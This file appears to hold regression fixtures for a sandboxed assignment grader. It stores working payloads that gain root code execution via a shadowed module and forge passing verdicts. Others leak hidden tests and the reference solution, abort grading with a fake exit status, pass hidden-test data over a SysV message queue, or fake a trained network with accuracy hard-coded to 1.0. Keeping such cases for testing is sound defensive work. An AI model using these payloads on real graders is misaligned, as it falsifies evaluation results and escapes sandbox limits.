"""Payloads of the second review (after the sandbox landed), kept as regression cases.

Each broke the first version of the new grader; the Attack entries in
attack_payloads.py say what each does and what stops it now.
"""

REVIEW_RCE = r"""
# ---- payload: root code execution in the trusted test process, verdict forged ----
# Runs in the TRUSTED process (root), imported as "stringprep" from <workspace>/tests,
# which pytest put first on its sys.path; then behaves as the real stringprep.
_SHADOW = b'''
import gc as _gc
import os as _os

for _o in _gc.get_objects():
    if type(_o).__name__ == "TrustedPlugin":
        _real = _o.verdict

        def _forged(status, _real=_real):
            v = _real(status)
            v.update(passed=True, skipped=False, errors=[], output="", printed="")
            return v

        _o.verdict = _forged
_src = _os.path.join(_os.path.dirname(_os.__file__), "stringprep.py")
exec(compile(open(_src, encoding="utf-8").read(), _src, "exec"))
'''


def _payload():
    import gc
    import re

    import numpy as np

    from chainrule.assignment.remote import Endpoint

    ep = next((o for o in gc.get_objects() if type(o) is Endpoint), None)
    if ep is None:
        return
    # (1) getattr on plain data is served: ndarray.ctypes is a handle to a Python object
    #     of the trusted process; str.format (callmethod on a plain str) walks its dunders.
    handle = ep.request("getattr", np.zeros(1), "ctypes")
    g = "{0.data_as.__globals__[sys]"
    finders = ep.request("callmethod", g + ".meta_path}", "format", [handle], {})
    idx = [i for i, s in enumerate(re.findall(r"<([^>]*)>", finders)) if "StudentFinder" in s][0]
    workspace = ep.request("callmethod", g + ".meta_path[%d].endpoint.__self__.orders[workspace]}"
                           % idx, "format", [handle], {})
    # (2) ndarray.tofile on plain data, run by the trusted process as root: write a module
    #     into <workspace>/tests, first on the trusted process's sys.path.
    blob = np.frombuffer(_SHADOW, dtype=np.uint8).copy()
    ep.request("callmethod", blob, "tofile", [workspace + "/tests/stringprep.py"], {})
    # (3) str.encode("idna") on the trusted side imports encodings.idna -> "import stringprep".
    ep.request("callmethod", "x", "encode", ["idna"], {})


try:
    _payload()
except Exception:
    import traceback

    traceback.print_exc()
"""

REVIEW_LEAK_FORMAT = r"""
# ---- payload: read hidden tests (and the solution's code) out of the trusted process ----
def _leak():
    import gc
    import re

    import numpy as np

    from chainrule.assignment.remote import Endpoint

    ep = next(o for o in gc.get_objects() if type(o) is Endpoint)
    h = ep.request("getattr", np.zeros(1), "ctypes")  # a handle to a trusted-side object
    g = "{0.data_as.__globals__[sys]"

    def read(path):
        return ep.request("callmethod", g + path + "}", "format", [h], {})

    finders = read(".meta_path")
    i = [k for k, s in enumerate(re.findall(r"<([^>]*)>", finders)) if "StudentFinder" in s][0]
    plugin = f".meta_path[{i}].endpoint.__self__"
    names = re.findall(r"'(test_\w+)': <function", read(".modules[test_sigmoid].__dict__"))
    hidden = [n for n in names if n != "test_sigmoid_backward"]
    out = [f"test names in test_sigmoid: {names}"]
    for n in hidden:
        out.append(f"{n}: {read(f'.modules[test_sigmoid].{n}.__doc__')}")
        out.append(f"  constants: {read(f'.modules[test_sigmoid].{n}.__code__.co_consts')}")
    out.append("this test's orders: " + read(plugin + ".orders"))
    ref = plugin + ".reference.modules[backprop.sigmoid].Sigmoid.backward.__code__"
    out.append("solution Sigmoid.backward names: " + read(ref + ".co_names"))
    return "\n".join(out)


_orig_init = Sigmoid.__init__


def _init(self, *a, **k):
    raise RuntimeError(_leak())


Sigmoid.__init__ = _init
"""

REVIEW_EXIT_70 = r"""
import os as _os
import traceback as _tb

_forward = Sigmoid.forward


def _spy(self, x):
    z = np.asarray(x)
    if np.max(np.abs(z), initial=0) >= 1000:  # only a hidden test uses such inputs
        print("a hidden test called Sigmoid.forward with", z.tolist(), flush=True)
        _os._exit(70)  # the worker's SETUP_FAILED status: the whole grading stops
    return _forward(self, x)


Sigmoid.forward = _spy
"""

REVIEW_IPC_SEND = r"""
# ---- payload (hidden test side): post what a hidden test does on a SysV message queue ----
import ctypes as _ct

_forward = Sigmoid.forward


def _post(text):
    libc = _ct.CDLL(None, use_errno=True)
    q = libc.msgget(0x5EED1234, 0o1000 | 0o666)  # IPC_CREAT: the IPC namespace is shared
    body = text.encode()[:4000]
    buf = _ct.create_string_buffer(8 + len(body))
    _ct.c_long.from_buffer(buf).value = 1
    buf[8 : 8 + len(body)] = body
    libc.msgsnd(q, buf, len(body), 0o4000)  # IPC_NOWAIT


def _spy(self, x):
    z = np.asarray(x)
    if np.max(np.abs(z), initial=0) >= 1000:  # only the hidden test uses such inputs
        _post(f"hidden test called Sigmoid().forward({z.tolist()})")
    return _forward(self, x)


Sigmoid.forward = _spy
"""

REVIEW_IPC_RECEIVE = r"""
# ---- payload (visible test side): read the queue, show it in a visible test's output ----
import ctypes as _ct
import time as _time


def _read_posts(wait=20.0):
    libc = _ct.CDLL(None, use_errno=True)
    end = _time.monotonic() + wait
    while _time.monotonic() < end:
        q = libc.msgget(0x5EED1234, 0)
        if q >= 0:
            buf = _ct.create_string_buffer(8 + 4096)
            n = libc.msgrcv(q, buf, 4096, 0, 0o4000)  # IPC_NOWAIT
            if n > 0:
                libc.msgctl(q, 0, None)  # IPC_RMID
                return buf.raw[8 : 8 + n].decode()
        _time.sleep(0.2)
    return "nothing posted"


_init = Softmax.__init__


def _leaky_init(self, *a, **k):
    raise RuntimeError(_read_posts())


Softmax.__init__ = _leaky_init
"""

REVIEW_CLOSED_FORM_FIT = r'''
# ---- payload: a degenerate net whose training needs no backward pass at all ----
def build_net(D, H, K, *, seed=0):
    """Sigmoid saturated at exactly 0: only the output bias ever trains."""
    net = Sequential(Linear(D, H, rng=seed), Sigmoid(), Linear(H, K, rng=seed))
    net[0].W.value[...] = 0.0
    net[0].b.value[...] = -1000.0  # sigma(-1000) == 0.0 and sigma' == 0.0 exactly
    net[2].W.value[...] = 0.0
    net[2].b.value[...] = 0.0
    return net


def fit(X, T, *, hidden=16, epochs=100, lr=0.2, momentum=0.9, batch_size=20, seed=0):
    net = build_net(X.shape[1], hidden, T.shape[1], seed=seed)
    b, v, history = np.zeros(T.shape[1]), None, []
    for _ in range(epochs):
        losses = []
        for s in range(0, len(X), batch_size):
            t = T[s : s + batch_size]
            r = b - t  # y = b for every row
            losses.append(float(np.sum(r * r)) / len(t))
            g = (2.0 / len(t) * r).sum(axis=0)
            v = g.copy() if v is None else v * momentum + g
            b = b - lr * v
        history.append(float(np.mean(losses)))
    return net, history


def accuracy(net, X, labels):
    return 1.0
'''
